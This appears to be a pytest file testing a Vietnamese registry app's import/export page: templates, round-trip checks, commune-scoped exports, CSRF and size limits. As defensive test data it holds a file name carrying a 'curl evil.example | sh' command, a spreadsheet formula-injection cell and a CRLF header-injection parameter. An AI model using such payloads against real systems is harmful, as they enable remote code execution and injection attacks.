"""Stories of the registry's Import/export page (issue 16), in-process: the gateway app over the
services (tests/bot/cluster.py), members signed in through /staff/login.

The templates download with the import's Vietnamese headers; the sites exported from the workspace
and checked again change nothing (the round trip); a commune officer's export holds only their
communes; a bad file is reported row by row (400) and nothing changes; an upload over the cap, a
file name built to run a shell command when pasted, no CSRF token, no session: refused or
neutralised; the indicators of a period; the JSON twin of the check."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from shared.kit.actor import Actor, Role
from shared.transfer.reading import Limits
from tests.gateway.staff.conftest import staff_gateway  # noqa: F401  (the fixture)

AGENCY = Actor("cli:agency", Role.AGENCY)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def log_head(staff_gateway) -> int:  # type: ignore[no-untyped-def]
    return staff_gateway.cluster.client(AGENCY).sites.ping()["log_head"]


def check(member, name: str, data: bytes, sheet: str = "sites", mime: str = "text/csv", **kw):  # type: ignore[no-untyped-def]
    return member.form("/staff/registry/transfer/check", {"sheet": sheet}, files={"file": (name, data, mime)}, **kw)


def test_the_templates_download_with_the_imports_columns(staff_gateway):
    agency = staff_gateway.member("agency")
    page = agency.get("/staff/registry")
    assert 'href="/staff/registry/transfer" id="transfer-link"' in page.text
    page = agency.get("/staff/registry/transfer")
    assert page.status_code == 200 and "Mẫu tệp nhập" in page.text
    assert 'href="/staff/registry" aria-current="page"' in page.text  # under the registry's navigation

    got = agency.get("/staff/registry/transfer/template/sites.xlsx")
    assert got.status_code == 200 and got.headers["content-type"] == XLSX
    assert got.headers["content-disposition"] == 'attachment; filename="sites-template.xlsx"'
    header = [c.value for c in next(load_workbook(io.BytesIO(got.content)).active.iter_rows())]
    assert "Mã tham chiếu" in header and "Tên" in header
    got = agency.get("/staff/registry/transfer/template/establishments.csv")
    assert got.status_code == 200 and "Mã đăng ký" in rows_of(got.content)[0] and len(rows_of(got.content)) == 1
    assert agency.get("/staff/registry/transfer/template/accounts.csv").status_code == 400  # no such sheet


def test_sites_exported_from_the_workspace_and_checked_again_change_nothing(staff_gateway):
    agency = staff_gateway.member("agency")
    exported = agency.get("/staff/registry/transfer/export/sites.csv")
    assert exported.status_code == 200 and exported.headers["content-disposition"].startswith(
        'attachment; filename="sites-')
    rows = rows_of(exported.content)
    total = staff_gateway.cluster.client(AGENCY).sites.staff_sites(limit=1)["total"]
    assert len(rows) == total + 1 and total > 50  # the header and every site of the seeded registry

    before = log_head(staff_gateway)
    checked = check(agency, "sites.csv", exported.content)
    assert checked.status_code == 200, checked.text
    assert f'data-create="0" data-amend="0" data-unchanged="{total}" data-errors="0"' in checked.text
    assert 'id="report-valid"' in checked.text and "langxanh import sites sites.csv --apply" in checked.text
    xlsx = agency.get("/staff/registry/transfer/export/establishments.xlsx")
    assert xlsx.status_code == 200 and xlsx.headers["content-type"] == XLSX
    again = check(agency, "co-so.xlsx", xlsx.content, sheet="establishments", mime=XLSX)
    assert again.status_code == 200 and 'data-create="0" data-amend="0"' in again.text
    assert log_head(staff_gateway) == before  # a check never changes the registry


def test_a_commune_officers_export_holds_only_their_communes(staff_gateway):
    officer = staff_gateway.member("agency", communes=["xa-bat-trang"])
    page = officer.get("/staff/registry/transfer")
    assert "chỉ gồm các cơ sở thuộc xã, phường bạn phụ trách" in page.text
    rows = rows_of(officer.get("/staff/registry/transfer/export/sites.csv").content)
    commune = rows[0].index("Xã/phường")
    assert len(rows) > 1 and {r[commune] for r in rows[1:]} == {"xa-bat-trang"}
    city = rows_of(staff_gateway.member("agency").get("/staff/registry/transfer/export/sites.csv").content)
    assert len(city) > len(rows)


def test_a_bad_file_is_reported_row_by_row_and_nothing_changes(staff_gateway):
    agency = staff_gateway.member("agency")
    template = rows_of(agency.get("/staff/registry/transfer/template/sites.csv").content)[0]
    row = {"Mã tham chiếu": "lang-moi-1", "Loại": "craft_village", "Tên": "=HYPERLINK(\"http://x\")",
           "Quận/huyện cũ": "gia-lam"}
    body = io.StringIO()
    csv.writer(body).writerows([template, [row.get(h, "") for h in template]])
    before = log_head(staff_gateway)
    answer = check(agency, "xau.csv", body.getvalue().encode())
    assert answer.status_code == 400
    assert 'data-rule="formula"' in answer.text and "Ô chứa công thức" in answer.text
    assert 'id="report-refused"' in answer.text and "--apply" not in answer.text
    assert log_head(staff_gateway) == before

    png = check(agency, "anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, mime="image/png")
    assert png.status_code == 400 and 'data-rule="format"' in png.text
    missing = agency.form("/staff/registry/transfer/check", {"sheet": "sites"})
    assert missing.status_code == 400 and "Hãy chọn tệp cần kiểm tra" in missing.text
    sheet = check(agency, "x.csv", b"a,b\n", sheet="accounts")
    assert sheet.status_code == 400 and "Hãy chọn loại danh sách" in sheet.text


def test_an_upload_over_the_cap_is_refused_unread(staff_gateway):
    agency = staff_gateway.member("agency")
    big = b"a" * (Limits().max_bytes + 10)
    answer = check(agency, "lon.csv", big)
    assert answer.status_code == 400 and 'data-rule="too_large"' in answer.text and "Tệp quá lớn" in answer.text


def test_a_file_name_built_to_run_a_command_is_shown_quoted(staff_gateway):
    """The page shows the operator's command with the file's name: a name carrying shell syntax
    must come out as one plain argument (pasting it runs nothing else)."""
    agency = staff_gateway.member("agency")
    exported = agency.get("/staff/registry/transfer/export/sites.csv").content
    answer = check(agency, "a.csv; curl evil.example | sh #.csv", exported)
    assert answer.status_code == 200
    shown = answer.text.split('<pre id="apply-command"><code>')[1].split("</code>")[0]
    assert shown == "langxanh import sites &#39;a.csv_ curl evil.example _ sh _.csv&#39; --apply"


def test_forged_and_anonymous_requests_are_refused(staff_gateway):
    agency = staff_gateway.member("agency")
    exported = agency.get("/staff/registry/transfer/export/sites.csv").content
    assert check(agency, "s.csv", exported, csrf=False).status_code == 403
    anonymous = staff_gateway.client()
    gone = anonymous.get("/staff/registry/transfer/export/sites.csv", follow_redirects=False)
    assert gone.status_code == 303 and gone.headers["location"].startswith("/staff/login")
    assert anonymous.get("/v1/staff/transfer/export/sites.csv").status_code == 401


def test_the_indicators_of_a_period_and_a_bad_period(staff_gateway):
    agency = staff_gateway.member("agency")
    got = agency.get("/staff/registry/transfer/export/indicators.csv?period=2025")
    assert got.status_code == 200 and got.headers["content-disposition"] == 'attachment; filename="indicators-2025.csv"'
    rows = rows_of(got.content)
    assert rows[0][:3] == ["period", "unit", "target"] and len(rows) > 1 and {r[0] for r in rows[1:]} == {"2025"}
    bad = agency.get('/staff/registry/transfer/export/indicators.csv?period=2025"%0d%0aX: y')
    assert bad.status_code == 400 and "x" not in {k.lower() for k in bad.headers}


def test_the_json_twin_checks_a_file(staff_gateway):
    agency = staff_gateway.member("agency")
    exported = agency.http.get("/v1/staff/transfer/export/sites.csv").content
    ok = agency.http.post("/v1/staff/transfer/check", data={"sheet": "sites"},
                          files={"file": ("s.csv", exported, "text/csv")}, headers={"X-CSRF-Token": agency.csrf})
    assert ok.status_code == 200 and ok.json()["valid"] and ok.json()["summary"]["create"] == 0
    forged = agency.http.post("/v1/staff/transfer/check", data={"sheet": "sites"},
                              files={"file": ("s.csv", exported, "text/csv")})
    assert forged.status_code == 403
